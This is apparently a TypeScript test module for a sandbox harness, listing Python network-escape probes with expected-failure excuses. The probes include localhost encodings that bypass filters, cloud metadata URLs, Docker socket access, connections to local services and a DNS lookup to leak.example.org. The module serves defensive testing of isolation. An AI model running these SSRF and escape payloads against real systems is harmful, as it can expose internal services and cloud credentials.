import { each, excuse, REACHED, type Technique } from "../attack.ts";

export const HOSTS = [
  "127.0.0.1",
  "localhost",
  "LOCALHOST.",
  "2130706433",
  "0x7f000001",
  "0x7f.1",
  "0177.0.0.1",
  "127.1",
  "0",
  "0.0.0.0",
  "[::1]",
  "[::]",
  "[::ffff:127.0.0.1]",
  "[::ffff:7f00:1]",
  "[64:ff9b::7f00:1]",
  "127.0.0.1.nip.io",
  "localtest.me",
  "user@127.0.0.1",
  "127.0.0.1%00.example.org",
  "１２７.０.０.１",
];
export const METADATA = [
  "http://169.254.169.254/latest/meta-data/",
  "http://2852039166/latest/meta-data/",
  "http://0xa9fea9fe/",
  "http://[::ffff:a9fe:a9fe]/",
  "http://[fd00:ec2::254]/",
  "http://metadata.google.internal/computeMetadata/v1/",
  "http://100.100.100.200/latest/meta-data/",
];

export const reach = (url: string) => `import urllib.request\nprint(urllib.request.urlopen(${url}, timeout=2).read())`;

export const NETWORK: Technique = {
  title: "network",
  controls: ["native"],
  attacks: excuse(
    [
      ...HOSTS.map((host) => ({
        name: `urlopen http://${host}:PORT/`,
        code: reach(`f"http://${host}:{port}/"`),
      })),
      ...METADATA.map((url) => ({ name: `urlopen ${url}`, code: reach(JSON.stringify(url)) })),
      ...each(
        [
          "import socket\ns = socket.create_connection(('127.0.0.1', port), 2); print(s.recv(1000))",
          "import socket\ns = socket.socket(); s.settimeout(2); s.connect_ex(('127.0.0.1', port)); print(s.recv(1000))",
          "import socket\ns = socket.socket(socket.AF_INET6); s.connect(('::1', port)); print(s.recv(1000))",
          "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', port))",
          "import socket\nsocket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
          "import socket\nsocket.socket(16, socket.SOCK_RAW, 0)",
          "import socket\nsocket.socket(40, socket.SOCK_STREAM)",
          "import socket\nsocket.create_server(('0.0.0.0', 0)); print(won)",
          "import socket\nsocket.getaddrinfo('leak.example.org', 80)",
          "import http.client\nc = http.client.HTTPConnection('127.0.0.1', port, timeout=2); c.request('GET', '/'); print(c.getresponse().read())",
          "import http.client\nc = http.client.HTTPSConnection('127.0.0.1', port, timeout=2); c.request('GET', '/')",
          "import asyncio\nr, w = await asyncio.open_connection('127.0.0.1', port)\nprint(await r.read())",
          "import asyncio\nawait asyncio.start_server(print, '0.0.0.0', 0); print(won)",
          "import ftplib\nftplib.FTP().connect('127.0.0.1', port, 2)",
          "import smtplib\nsmtplib.SMTP('127.0.0.1', port, timeout=2)",
          "import poplib\npoplib.POP3('127.0.0.1', port, timeout=2)",
          "import xmlrpc.client\nxmlrpc.client.ServerProxy(f'http://127.0.0.1:{port}/').x()",
          "import urllib.request\nurllib.request.ProxyHandler; urllib.request.build_opener(urllib.request.ProxyHandler({'http': f'127.0.0.1:{port}'})).open('http://example.org/', timeout=2)",
          "import urllib.request\nprint(urllib.request.urlopen(f'ftp://127.0.0.1:{port}/').read())",
          "import urllib.request\nprint(urllib.request.urlopen(f'gopher://127.0.0.1:{port}/').read())",
          "import logging.handlers\nh = logging.handlers.SysLogHandler(('127.0.0.1', port), socktype=__import__('socket').SOCK_STREAM); h.emit(logging.makeLogRecord({})); 1 / 0",
          "import socketserver\nsocketserver.TCPServer(('127.0.0.1', 0), None); print(won)",
        ],
        {},
        { after: REACHED },
      ),
      ...each([
        "import socket\nprint(socket.gethostbyname('leak.' + won[:0] + 'example.org'))",
        "import socket\na, b = socket.socketpair(); a.send(b'x'); b.recv(1)",
        "import os\nos.environ.update(http_proxy=f'http://127.0.0.1:{port}')\nimport urllib.request\nurllib.request.build_opener().open('http://example.org/', timeout=2)",
      ]),
    ],
    {
      'it would ask a real service; it succeeds under "network, every public host allowed", diverted': [
        "urlopen http://169.254",
        "urlopen http://2852039166",
        "urlopen http://0xa9",
        "urlopen http://[::ffff:a9",
        "urlopen http://[fd00",
        "urlopen http://metadata",
        "urlopen http://100.100",
      ],
      'the machine\'s resolver or library does not read it; where one does, it succeeds under "network, every public host allowed"':
        ["LOCALHOST.", "[::1]", "[::]", "[64:ff9b", "nip.io", "localtest.me", "user@", "%00.example", "１２７"],
      "the bait listens on IPv4 alone": ["(socket.AF_INET6)"],
      "not every machine has it": ["docker.sock"],
      "there is nobody to be asked": ["getaddrinfo('leak", "gethostbyname"],
      "no library has it any more, or it reaches nothing": ["gopher", "socketpair"],
    },
  ),
};
